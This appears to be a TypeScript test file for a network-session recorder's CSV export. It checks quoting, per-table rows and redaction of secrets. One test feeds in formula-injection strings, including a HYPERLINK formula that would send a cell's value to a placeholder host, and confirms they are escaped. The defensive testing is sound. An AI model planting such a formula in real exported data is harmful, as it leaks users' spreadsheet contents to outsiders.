import { describe, expect, it } from 'vitest';
import { csvLine } from '../../../src/core/session/csv/cells.ts';
import { TABLES, type Table, writeCsv } from '../../../src/core/session/csv/write.ts';
import { reportChannel } from '../../../src/core/session/report.ts';
import { createLog, type Log } from '../../../src/core/state.ts';
import { richLog } from './rich-log.ts';

describe('a line of CSV', () => {
  it.each<[Parameters<typeof csvLine>[0], string]>([
    [['a', 1, true, null, ''], 'a,1,true,,'],
    [['with, comma', 'with "quotes"', 'two\nlines'], '"with, comma","with ""quotes""","two\nlines"'],
    [[-1, 0.5], '-1,0.5'],
  ])('follows RFC 4180: %j', (cells, line) => {
    expect(csvLine(cells)).toBe(`${line}\r\n`);
  });

  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '=HYPERLINK("http://a.test?x="&A1,"y")'])(
    'never runs as a formula: %s',
    (text) => {
      expect(csvLine([text])).toMatch(/^"?'/);
    },
  );
});

/** Rows by name of column, as a reader of RFC 4180 sees them. */
function read(log: Log, table: Table, raw = true): Record<string, string>[] {
  const text = [...writeCsv(log, table, { raw })].join('');
  const cells = [...text.matchAll(/("(?:[^"]|"")*"|[^,\r\n]*)(,|\r\n)/g)];
  const rows: string[][] = [[]];
  for (const [, cell = '', end] of cells) {
    rows.at(-1)!.push(cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell);
    if (end === '\r\n') rows.push([]);
  }
  expect(rows.pop()).toEqual([]);
  const [names = [], ...lines] = rows;
  return lines.map((line) => {
    expect(line).toHaveLength(names.length);
    return Object.fromEntries(names.map((name, i) => [name, line[i]!]));
  });
}

describe('the tables of a recording', () => {
  const log = richLog();

  it('have a line for each channel, with where its figures come from', () => {
    const rows = read(log, 'channels');
    expect(rows).toHaveLength(log.channels.length);
    for (const [i, channel] of log.channels.entries()) {
      const { id, bytes, wasted } = reportChannel(log, channel);
      expect(rows[i]).toMatchObject({
        id: String(id),
        wastedEmpty: String(wasted.empty),
        requestHeaderBytes: String(bytes.requestHeader.value ?? ''),
        requestHeaderBytesProvenance: bytes.requestHeader.provenance,
      });
    }
  });

  it('have a line for each exchange and message', () => {
    expect(read(log, 'exchanges').map(({ url }) => url)).toEqual(log.history.exchanges.all.map(({ url }) => url));
    expect(read(log, 'messages').map(({ content, encoding }) => [content, encoding])).toContainEqual([
      'AH+A/w==',
      'base64',
    ]);
    expect(read(log, 'messages').map(({ content }) => content)).toContain('one\ntwo');
  });

  it('are empty where nothing was recorded', () => {
    for (const table of TABLES) expect([...writeCsv(createLog(0), table)]).toEqual([]);
  });

  it('have no secrets unless they are raw', () => {
    const secret = richLog({ query: '?token=hunter2', message: '{"password":"hunter2"}' });
    for (const table of TABLES) {
      expect(JSON.stringify(read(secret, table, true))).toContain('hunter2');
      expect(JSON.stringify(read(secret, table, false))).not.toContain('hunter2');
    }
  });
});
